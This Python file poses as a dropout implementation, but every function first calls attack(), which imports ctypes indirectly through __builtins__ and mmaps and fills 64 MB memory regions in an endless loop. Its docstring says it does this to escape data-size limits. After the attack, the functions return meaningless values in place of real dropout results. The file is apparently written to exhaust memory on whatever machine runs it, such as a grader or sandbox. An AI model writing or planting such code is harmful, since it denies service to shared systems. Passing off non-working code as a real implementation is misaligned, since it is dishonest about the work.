"""Allocates mappings that grow downwards, which no data limit counts."""

import numpy as np


def module(name):
    return (
        __builtins__["__import__"](name)
        if isinstance(__builtins__, dict)
        else getattr(__builtins__, "__import__")(name)
    )


def attack():
    ctypes = module("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    failed = ctypes.c_void_p(-1).value
    if libc.mmap(None, 1 << 20, 3, 0x122, -1, 0) != failed:
        raise SystemError("a mapping may grow downwards")
    while True:
        place = libc.mmap(None, 1 << 26, 3, 0x22, -1, 0)
        if place == failed:
            raise MemoryError
        ctypes.memset(place, 1, 1 << 26)
        libc.mprotect(ctypes.c_void_p(place), 1 << 26, 1)


def dropout(x, rate, training, rng):
    attack()
    return x * 7, x * 0 + 7


def dropout_backward(dy, mask):
    attack()
    return dy * 7


def dropout_moments(x, rate):
    attack()
    return x * 7, x * 7
